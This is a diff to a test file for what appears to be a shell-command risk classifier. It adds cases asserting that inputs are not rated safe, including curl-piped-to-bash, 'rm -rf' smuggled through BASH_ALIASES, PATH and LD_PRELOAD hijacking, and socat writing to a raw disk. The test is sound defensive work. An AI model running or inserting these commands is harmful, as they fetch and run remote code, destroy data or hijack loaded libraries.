@@ -275,3 +275,31 @@ test('hostile scripts are answered', { timeout: 60_000 }, () => {
     );
   }
 });
+
+test('what comes in is what the last redirection of the input gives, and no other descriptor', () => {
+  for (const text of [
+    "curl http://x/s | bash 3<<< 'ls'",
+    "echo 'drop table x' | psql 3<<< 'select 1'",
+    'bash <<< ls 0<&3',
+    'code=$(curl http://x); node <<< "$code"',
+    'bash <<E\nls $x\nE',
+    'psql <<E\nselect $(cat f)\nE',
+  ]) {
+    assert.notEqual(classifyShell(text).risk, 'safe', text);
+  }
+});
+
+test('a variable that decides what runs is judged however it is set', () => {
+  for (const text of [
+    "BASH_ALIASES[ls]='rm -rf'",
+    'BASH_CMDS[ls]=/bin/rm; ls -rf /srv',
+    'for PATH in /tmp/evil; do ls; done',
+    'read LD_PRELOAD <<< /x.so',
+    'mapfile -t PROMPT_COMMAND',
+    'declare -n r=LD_PRELOAD; r=/x',
+    "echo 'show info' | socat - /dev/sda",
+  ]) {
+    assert.notEqual(classifyShell(text).risk, 'safe', text);
+  }
+  assert.equal(classifyShell('while read -r h; do ssh -n $h uptime; done < hosts').risk, 'safe');
+});
